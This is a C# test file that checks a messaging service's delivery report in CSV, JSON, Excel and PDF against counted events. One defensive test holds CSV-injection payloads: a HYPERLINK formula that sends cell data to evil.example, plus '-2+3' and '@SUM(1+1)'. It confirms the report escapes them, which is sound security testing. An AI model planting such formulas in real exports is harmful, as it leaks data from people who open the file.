using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Herald.Tests.Api;
using Herald.Tests.Support;
using C = DocumentFormat.OpenXml.Drawing.Charts;

namespace Herald.Tests.Reports;

/// <summary>The message report in each format, read back and compared with a brute-force count of the posted events.</summary>
public sealed class MessageReportTests(SharedServer shared) : IClassFixture<SharedServer>
{
    private async Task<(HttpClient Client, ReportTraffic Traffic)> TeamWithTraffic()
    {
        var (_, client) = await shared.NewTeamAsync("events:write", "metrics:read", "reports:write");
        var traffic = new ReportTraffic();
        await traffic.PostAsync(client);
        return (client, traffic);
    }

    private static void AssertSummary(JsonNode summary, ReportTraffic traffic)
    {
        var p = traffic.Period();
        Assert.Equal(p.Total, summary["total_messages"]!.GetValue<long>());
        Assert.Equal(p.Delivered, summary["delivered"]!.GetValue<long>());
        Assert.Equal(p.Failed, summary["failed"]!.GetValue<long>());
        Assert.Equal(p.Pending, summary["pending"]!.GetValue<long>());
        Assert.Equal(ReportTraffic.Rate(p.Delivered, p.Total), summary["delivery_rate"]!.GetValue<double>());
        Assert.Equal(p.Events, summary["events"]!.GetValue<long>());
        Assert.Equal(p.Cost, summary["cost"]!.GetValue<double>(), 6);
        Assert.Equal(3, summary["days"]!.GetValue<int>());
    }

    [Fact]
    public async Task Csv_sections_match_a_brute_force_count_of_the_events()
    {
        var (client, traffic) = await TeamWithTraffic();
        var report = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{ReportTraffic.Range}&format=csv");
        Assert.Matches(@"^MSG_\d{8}_\d{6}_[0-9a-f]{6}$", report["report_id"]!.GetValue<string>());
        Assert.Equal("csv", report["format"]!.GetValue<string>());
        Assert.NotNull(report["generated_at"]);
        AssertSummary(report["summary"]!, traffic);

        var (body, response) = await ReportKit.Download(client, report);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition!.DispositionType);
        Assert.EndsWith(".csv", response.Content.Headers.ContentDisposition.FileName!.Trim('"'));
        var sections = ReportKit.CsvSections(Encoding.UTF8.GetString(body));
        Assert.Equal(["summary", "daily", "by_channel", "by_provider", "by_country", "top_errors"], sections.Keys.ToArray());

        var summary = ReportKit.Rows(sections["summary"]).ToDictionary(r => r["metric"], r => r["value"]);
        Assert.Equal(traffic.Period().Total.ToString(CultureInfo.InvariantCulture), summary["total_messages"]);

        var daily = ReportKit.Rows(sections["daily"]);
        Assert.Equal(3, daily.Count);
        for (int d = 0; d < 3; d++)
        {
            var day = ReportTraffic.First.AddDays(d);
            var want = traffic.Day(day);
            var row = daily[d];
            Assert.Equal(day.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), row["date"]);
            Assert.Equal(want.Total, (long)ReportKit.Num(row["total"]));
            Assert.Equal(want.Delivered, (long)ReportKit.Num(row["delivered"]));
            Assert.Equal(want.Failed, (long)ReportKit.Num(row["failed"]));
            Assert.Equal(want.Pending, (long)ReportKit.Num(row["pending"]));
            Assert.Equal(want.Events, (long)ReportKit.Num(row["events"]));
            Assert.Equal(want.Cost, ReportKit.Num(row["cost"]), 6);
            Assert.Equal(ReportTraffic.Rate(want.Delivered, want.Total), ReportKit.Num(row["delivery_rate"]));
            Assert.Equal(ReportTraffic.Rate(want.Failed, want.Total), ReportKit.Num(row["failure_rate"]));
            Assert.True(ReportKit.Num(row["latency_p95_seconds"]) >= ReportKit.Num(row["latency_p50_seconds"]));
        }

        foreach (var (section, dimension) in new[] { ("by_channel", "channel"), ("by_provider", "provider"), ("by_country", "country") })
        {
            var rows = ReportKit.Rows(sections[section]).ToDictionary(r => r[dimension]);
            var values = dimension switch { "channel" => ReportTraffic.Channels, "provider" => ReportTraffic.Providers, _ => ReportTraffic.Countries };
            Assert.Equal(values.Order().ToArray(), rows.Keys.Order().ToArray());
            foreach (var value in values)
            {
                Func<ReportTraffic.Item, bool> match = dimension switch
                {
                    "channel" => i => i.Channel == value,
                    "provider" => i => i.Provider == value,
                    _ => i => i.Country == value,
                };
                var want = traffic.Period(match);
                Assert.Equal(want.Total, (long)ReportKit.Num(rows[value]["total"]));
                Assert.Equal(want.Delivered, (long)ReportKit.Num(rows[value]["delivered"]));
                Assert.Equal(want.Failed, (long)ReportKit.Num(rows[value]["failed"]));
                Assert.Equal(want.Events, (long)ReportKit.Num(rows[value]["events"]));
            }
        }

        var errors = ReportKit.Rows(sections["top_errors"]).ToDictionary(r => r["code"], r => (long)ReportKit.Num(r["failures"]));
        var wantErrors = traffic.Events.Where(e => e.ErrorCode is not null).GroupBy(e => e.ErrorCode!).ToDictionary(g => g.Key, g => (long)g.Count());
        Assert.Equal(wantErrors.OrderBy(p => p.Key), errors.OrderBy(p => p.Key));
    }

    [Fact]
    public async Task Json_report_is_the_data_as_structured_json()
    {
        var (client, traffic) = await TeamWithTraffic();
        var report = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{ReportTraffic.Range}&format=json");
        var (body, response) = await ReportKit.Download(client, report);
        Assert.Equal("application/json", response.Content.Headers.ContentType!.MediaType);
        var doc = JsonNode.Parse(body)!;
        Assert.Equal(report["report_id"]!.GetValue<string>(), doc["report_id"]!.GetValue<string>());
        Assert.Equal("messages", doc["report_type"]!.GetValue<string>());
        Assert.Equal(ReportTraffic.First.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), doc["period"]!["start_date"]!.GetValue<string>());
        Assert.Equal(ReportTraffic.Last.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), doc["period"]!["end_date"]!.GetValue<string>());
        AssertSummary(doc["summary"]!, traffic);
        var daily = doc["daily"]!.AsArray();
        Assert.Equal(3, daily.Count);
        for (int d = 0; d < 3; d++)
        {
            var want = traffic.Day(ReportTraffic.First.AddDays(d));
            Assert.Equal(want.Total, daily[d]!["total"]!.GetValue<long>());
            Assert.Equal(want.Delivered, daily[d]!["delivered"]!.GetValue<long>());
            Assert.Equal(want.Events, daily[d]!["events"]!.GetValue<long>());
        }
        Assert.Equal(3, doc["by_channel"]!.AsArray().Count);
        Assert.Equal(traffic.Items.Count(i => i.Outcome == "failed"), doc["top_errors"]!.AsArray().Sum(e => e!["failures"]!.GetValue<long>()));
    }

    [Fact]
    public async Task Excel_report_has_typed_cells_bold_headers_and_a_line_chart()
    {
        var (client, traffic) = await TeamWithTraffic();
        var report = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{ReportTraffic.Range}&format=excel");
        Assert.Equal("excel", report["format"]!.GetValue<string>());
        var (body, response) = await ReportKit.Download(client, report);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType!.MediaType);
        Assert.EndsWith(".xlsx", response.Content.Headers.ContentDisposition!.FileName!.Trim('"'));

        using var package = SpreadsheetDocument.Open(new MemoryStream(body), false);
        var errors = new OpenXmlValidator().Validate(package).Select(e => $"{e.Path?.XPath}: {e.Description}").ToList();
        Assert.True(errors.Count == 0, string.Join("\n", errors));
        var workbook = package.WorkbookPart!;
        var names = workbook.Workbook.Sheets!.Elements<Sheet>().Select(s => s.Name!.Value!).ToArray();
        Assert.Equal(["Summary", "Daily", "By channel", "By provider", "By country", "Top error codes"], names);

        var daily = Cells(workbook, "Daily");
        Assert.Equal(["Date", "Total", "Delivered", "Failed", "Pending", "Delivery %", "Failure %", "Events", "Cost", "Latency p50 (s)", "Latency p95 (s)"],
            daily[0].Select(c => c.Text).ToArray());
        Assert.All(daily[0], c => Assert.True(c.Bold, $"header {c.Text} is not bold"));
        Assert.Equal(4, daily.Count);
        for (int d = 0; d < 3; d++)
        {
            var row = daily[d + 1];
            var want = traffic.Day(ReportTraffic.First.AddDays(d));
            Assert.NotNull(row[0].Number); // a date cell: an OLE automation date with a date format
            Assert.Equal(ReportTraffic.First.AddDays(d), DateOnly.FromDateTime(DateTime.FromOADate(row[0].Number!.Value)));
            Assert.Equal(want.Total, row[1].Number);
            Assert.Equal(want.Delivered, row[2].Number);
            Assert.Equal(want.Failed, row[3].Number);
            Assert.Equal(want.Pending, row[4].Number);
            Assert.Equal(want.Events, row[7].Number);
            Assert.Equal(want.Cost, row[8].Number!.Value, 6);
        }

        var summary = Cells(workbook, "Summary");
        var total = summary.First(r => r.Count >= 3 && r[2].Text == "total_messages");
        Assert.Equal(traffic.Period().Total, total[1].Number);

        var summaryPart = (WorksheetPart)workbook.GetPartById(workbook.Workbook.Sheets!.Elements<Sheet>().First().Id!);
        var chart = Assert.Single(summaryPart.DrawingsPart!.ChartParts);
        var series = chart.ChartSpace.Descendants<C.LineChartSeries>().ToList();
        Assert.Equal(3, series.Count);
        Assert.All(series, s => Assert.StartsWith("'Daily'!$", s.Descendants<C.Formula>().Last().Text));
        Assert.Equal("'Daily'!$B$2:$B$4", series[0].GetFirstChild<C.Values>()!.Descendants<C.Formula>().Single().Text);
    }

    /// <summary>
    /// Client-chosen text that a spreadsheet would run as a formula (a provider from a webhook's query string, an error
    /// code from the events API) starts with an apostrophe in the CSV and the Excel file (OWASP, CSV injection); numbers do not.
    /// </summary>
    [Fact]
    public async Task Csv_and_excel_cells_that_start_like_a_formula_get_an_apostrophe()
    {
        const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        var (teamId, client) = await shared.NewTeamAsync("events:write", "metrics:read", "reports:write");
        var token = (await HeraldServer.ReadData(await client.PostAsync($"/api/v1/teams/{teamId}/webhook-token/rotate", null)))["webhook_token"]!.GetValue<string>();
        string done = Kit.Day.AddHours(12).ToString("yyMMddHHmm", CultureInfo.InvariantCulture);
        var receipt = await shared.Server.Client(null).PostAsync($"/webhooks/smpp/{token}?provider={Uri.EscapeDataString(Hyperlink)}",
            new StringContent($"id:inj-1 done date:{done} stat:UNDELIV err:001", Encoding.UTF8, "text/plain"));
        Assert.True(receipt.IsSuccessStatusCode, await receipt.Content.ReadAsStringAsync());
        await Kit.Ingest(client, new[]
        {
            new Dictionary<string, object> { ["item_id"] = "inj-2", ["kind"] = "message", ["status"] = "failed", ["occurred_at"] = Kit.At(60),
                ["provider"] = "-2+3", ["channel"] = "sms", ["error_code"] = "@SUM(1+1)" },
        });
        string range = $"start_date={Kit.Day:yyyy-MM-dd}&end_date={Kit.Day:yyyy-MM-dd}";

        var csv = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{range}&format=csv");
        var sections = ReportKit.CsvSections(Encoding.UTF8.GetString((await ReportKit.Download(client, csv)).Body));
        var providers = ReportKit.Rows(sections["by_provider"]).ToDictionary(r => r["provider"], r => r["total"]);
        Assert.Equal(new Dictionary<string, string> { ["'" + Hyperlink] = "1", ["'-2+3"] = "1" }, providers);
        Assert.Equal(["'@SUM(1+1)", "UNDELIV:001"], ReportKit.Rows(sections["top_errors"]).Select(r => r["code"]).Order(StringComparer.Ordinal));

        var excel = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{range}&format=excel");
        using var package = SpreadsheetDocument.Open(new MemoryStream((await ReportKit.Download(client, excel)).Body), false);
        var byProvider = Cells(package.WorkbookPart!, "By provider").Skip(1).ToDictionary(r => r[0].Text, r => r[1].Number);
        Assert.Equal(new Dictionary<string, double?> { ["'" + Hyperlink] = 1, ["'-2+3"] = 1 }, byProvider);
        Assert.Equal(["'@SUM(1+1)", "UNDELIV:001"], Cells(package.WorkbookPart!, "Top error codes").Skip(1).Select(r => r[0].Text).Order(StringComparer.Ordinal));
    }

    private static List<List<ReportKit.XCell>> Cells(WorkbookPart workbook, string sheet) => ReportKit.XlsxCells(workbook, sheet);

    [Fact]
    public async Task Pdf_report_has_the_kpis_the_chart_and_the_pages_expected()
    {
        var (client, traffic) = await TeamWithTraffic();
        var report = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{ReportTraffic.Range}&format=pdf");
        var (body, response) = await ReportKit.Download(client, report);
        Assert.Equal("application/pdf", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("%PDF-", Encoding.ASCII.GetString(body, 0, 5));
        Assert.EndsWith("%%EOF\n", Encoding.ASCII.GetString(body[^10..]));

        // Title, KPIs, chart and five tables fill the first page; the last tables and the notes go on the second.
        Assert.Equal(2, ReportKit.PdfPages(body));
        var text = ReportKit.PdfText(body);
        Assert.Contains("Message delivery report", text);
        Assert.Contains($"Period: {ReportTraffic.First:yyyy-MM-dd} to {ReportTraffic.Last:yyyy-MM-dd}", text);
        var p = traffic.Period();
        Assert.Matches($@"Total messages\s+Delivered\s+Failed\s+Pending\s+{p.Total}\s+{p.Delivered}\s+{p.Failed}\s+{p.Pending}", text);
        Assert.Contains(ReportTraffic.Rate(p.Delivered, p.Total).ToString("0.00", CultureInfo.InvariantCulture), text);
        Assert.Contains("Daily volume", text);
        Assert.Contains("Top error codes", text);
        Assert.Matches($@"{report["report_id"]!.GetValue<string>()}\s+·\s+Page 2 of 2", text);
        // The fonts travel with the file: DejaVu Sans, regular and bold, subsets of the glyphs used.
        var fonts = ReportKit.PdfFonts(body);
        Assert.All(fonts, f => Assert.True(f.Embedded, $"{f.Name} is not embedded"));
        Assert.Equal(["DejaVu Sans", "DejaVu Sans,Bold"], fonts.Select(f => f.Name).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task A_long_pdf_continues_its_daily_table_over_pages()
    {
        var (client, traffic) = await TeamWithTraffic();
        var start = ReportTraffic.Last.AddDays(-199);
        var report = await ReportKit.Generate(client,
            $"/api/v1/analytics/reports/messages?start_date={start:yyyy-MM-dd}&end_date={ReportTraffic.Last:yyyy-MM-dd}&format=pdf");
        Assert.Equal(200, report["summary"]!["days"]!.GetValue<int>());
        Assert.Equal(traffic.Period().Total, report["summary"]!["total_messages"]!.GetValue<long>());
        var (body, _) = await ReportKit.Download(client, report);
        int pages = ReportKit.PdfPages(body);
        var text = ReportKit.PdfText(body);
        // 200 daily rows at 12 pt: about 25 fit under the chart and 58 on a page of their own.
        Assert.InRange(pages, 5, 6);
        Assert.Contains($"Page {pages} of {pages}", text);
        Assert.Contains("Daily (continued)", text);
    }

    [Fact]
    public async Task Filters_narrow_the_report_and_status_counts_only_items_at_those_statuses()
    {
        var (client, traffic) = await TeamWithTraffic();
        var report = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{ReportTraffic.Range}&format=json&status=failed,sent");
        var summary = report["summary"]!;
        var p = traffic.Period();
        Assert.Equal(p.Failed + p.Pending, summary["total_messages"]!.GetValue<long>());
        Assert.Equal(p.Failed, summary["failed"]!.GetValue<long>());
        Assert.Equal(0, summary["delivered"]!.GetValue<long>());
        Assert.Null(summary["events"]); // not split by current status in the rollups: left empty
        Assert.Equal("failed,sent", report["parameters"]!["status"]!.GetValue<string>());
        var (body, _) = await ReportKit.Download(client, report);
        var doc = JsonNode.Parse(body)!;
        Assert.Null(doc["top_errors"]);
        Assert.Contains(doc["notes"]!.AsArray(), n => n!.GetValue<string>().StartsWith("Status filter", StringComparison.Ordinal));
    }
}
